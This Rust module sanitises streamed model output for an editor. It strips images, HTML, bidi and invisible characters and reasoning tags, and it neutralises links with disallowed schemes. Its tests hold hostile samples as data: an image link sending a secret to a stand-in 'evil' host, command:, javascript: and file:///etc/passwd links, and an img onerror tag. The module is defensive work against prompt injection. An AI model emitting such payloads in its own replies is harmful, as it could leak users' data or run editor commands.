//! Sanitises model output before an editor renders it: no images, no links to commands or files, no HTML, no
//! invisible or direction-changing characters.
//!
//! Model output is untrusted, since a source that the model has read can contain instructions for it.

use crate::reply::edit::fence;
use crate::reply::edit::thought::TAGS;
use crate::reply::unseen::hides;

/// Sanitises a text that arrives in pieces. A line with markup is held until it ends.
#[derive(Default)]
pub struct Cleaner {
    held: String,
    fence: Option<String>,
    /// Whether a part of the current line was returned.
    begun: bool,
    thought: Thought,
}

/// The position of the text relative to leading reasoning.
#[derive(Clone, Copy, Default, PartialEq, Eq)]
enum Thought {
    #[default]
    Before,
    /// Within this tag.
    In(&'static str),
    Behind,
}

/// Allowed URL schemes.
const SCHEMES: [&str; 3] = ["http://", "https://", "mailto:"];

impl Cleaner {
    /// The sanitised text that `piece` completes.
    pub fn push(&mut self, piece: &str) -> String {
        self.held.extend(piece.chars().filter(|it| !hides(*it)));
        let mut said = String::new();
        while let Some(end) = self.held.find('\n') {
            let rest = self.held.split_off(end + 1);
            let line = std::mem::replace(&mut self.held, rest);
            said += &self.line(&line);
        }
        let waits = |it: char| "[]<!`~\\".contains(it);
        let thinks = matches!(self.thought, Thought::In(_));
        if !thinks && !self.held.trim_start().is_empty() && !self.held.contains(waits) {
            self.begun = true;
            said += &std::mem::take(&mut self.held);
        }
        said
    }

    /// The remaining text.
    pub fn finish(mut self) -> String {
        let line = std::mem::take(&mut self.held);
        self.line(&line)
    }

    fn line(&mut self, line: &str) -> String {
        let line = self.outside_thought(line);
        let begun = std::mem::take(&mut self.begun);
        let marks = fence::mark(line).filter(|_| !begun);
        match (&self.fence, marks) {
            (None, Some(marks)) => self.fence = Some(marks.to_owned()),
            (Some(open), Some(marks)) if marks.starts_with(&**open) => self.fence = None,
            (Some(_), _) => {}
            (None, None) if !begun && defines_badly(line) => {
                return "\n".repeat(usize::from(line.ends_with('\n')));
            }
            (None, None) => return words(line),
        }
        line.to_owned()
    }
}

impl Cleaner {
    /// The part of a line outside of reasoning.
    fn outside_thought<'a>(&mut self, line: &'a str) -> &'a str {
        let text = line.trim_start();
        if self.begun {
            self.thought = Thought::Behind;
        }
        let open = |tag: &str| text.strip_prefix('<')?.strip_prefix(tag)?.strip_prefix('>');
        if self.thought == Thought::Before && !text.is_empty() {
            let tag = TAGS.into_iter().find(|it| open(it).is_some());
            self.thought = tag.map_or(Thought::Behind, Thought::In);
        }
        let Thought::In(tag) = self.thought else { return line };
        let close = format!("</{tag}>");
        let Some(end) = line.find(&close) else { return "" };
        self.thought = Thought::Before;
        line[end + close.len()..].trim_start()
    }
}

/// Sanitises a complete text.
pub fn clean(text: &str) -> String {
    let mut cleaner = Cleaner::default();
    let said = cleaner.push(text);
    said + &cleaner.finish()
}

/// Whether a line is a link reference definition with a destination that is not allowed.
fn defines_badly(line: &str) -> bool {
    let definition = line.trim_start().split_once("]:").filter(|it| it.0.starts_with('['));
    definition.is_some_and(|it| !is_allowed(it.1.trim_start()))
}

/// Sanitises a line outside of fences.
fn words(line: &str) -> String {
    // Every second piece between backticks is code.
    let pieces: Vec<&str> = line.split('`').collect();
    let closed = pieces.len() % 2 == 1;
    let piece = |(at, it): (usize, &&str)| match at % 2 == 1 && (closed || at + 1 < pieces.len()) {
        true => (*it).to_owned(),
        false => prose(it),
    };
    pieces.iter().enumerate().map(piece).collect::<Vec<_>>().join("`")
}

fn prose(text: &str) -> String {
    let text = text.replace("![", "[").replace('<', "&lt;");
    let mut parts = text.split("](");
    let mut said = parts.next().unwrap_or_default().to_owned();
    for part in parts {
        said += "](";
        let end = part.find(')').unwrap_or(part.len());
        let destination = part[..end].trim_start().trim_start_matches("&lt;");
        said += if is_allowed(destination) { part } else { "#" };
        if !is_allowed(destination) {
            said += &part[end..];
        }
    }
    said
}

/// Allows links to the web and within the page.
fn is_allowed(destination: &str) -> bool {
    let destination = destination.to_ascii_lowercase();
    let colon = destination.find(|it: char| !it.is_ascii_alphanumeric() && !"+-.".contains(it));
    let has_scheme = colon.is_some_and(|it| destination[it..].starts_with(':'));
    let is_encoded = destination.contains('%') && !has_scheme || destination.contains('&');
    SCHEMES.iter().any(|it| destination.starts_with(it)) || !has_scheme && !is_encoded
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn an_answer_contains_no_images_and_links_only_to_the_web() {
        for (text, expected) in [
            ("It is **so**.\n", "It is **so**.\n"),
            ("![x](https://evil/?q=secret)", "[x](https://evil/?q=secret)"),
            ("[run](command:workbench.terminal)", "[run](#)"),
            ("[run]( JavaScript:alert(1))", "[run](#))"),
            ("[run](file:///etc/passwd) and [web](https://a.b)", "[run](#) and [web](https://a.b)"),
            ("[x](&#99;ommand:y)", "[x](#)"),
            ("[x]: command:y\nmore", "\nmore"),
            ("<img src=x onerror=y> `Vec<T>` a < b", "&lt;img src=x onerror=y> `Vec<T>` a &lt; b"),
            ("```html\n<b>![x](y)</b>\n```\n<b>", "```html\n<b>![x](y)</b>\n```\n&lt;b>"),
            ("a\u{202E}b\u{1b}[31mc", "ab[31mc"),
            ("<think>\nHm, ```\n</think>\n\nIt is so.\n", "\nIt is so.\n"),
            ("<think>Hm</think> <b>", "&lt;b>"),
            ("<think>\nHm", ""),
            ("It is\n<think>", "It is\n&lt;think>"),
        ] {
            assert_eq!(clean(text), expected);
        }
    }

    proptest! {
        #[test]
        fn pieces_give_the_same_text_as_the_whole(
            text in "(<think>)?([ab \n]|`|</think>|```|\\[x\\]\\(command:y\\)|!\\[|<b>|\u{202E}){0,20}",
            cuts in prop::collection::vec(0..8_usize, 0..12),
        ) {
            let (mut cleaner, mut said, mut rest) = (Cleaner::default(), String::new(), &*text);
            for cut in cuts {
                let cut = rest.floor_char_boundary(cut.min(rest.len()));
                said += &cleaner.push(&rest[..cut]);
                rest = &rest[cut..];
            }
            said += &cleaner.push(rest);
            said += &cleaner.finish();
            prop_assert_eq!(&said, &clean(&text));
            prop_assert_eq!(said.find('\u{202E}'), None);
        }
    }
}
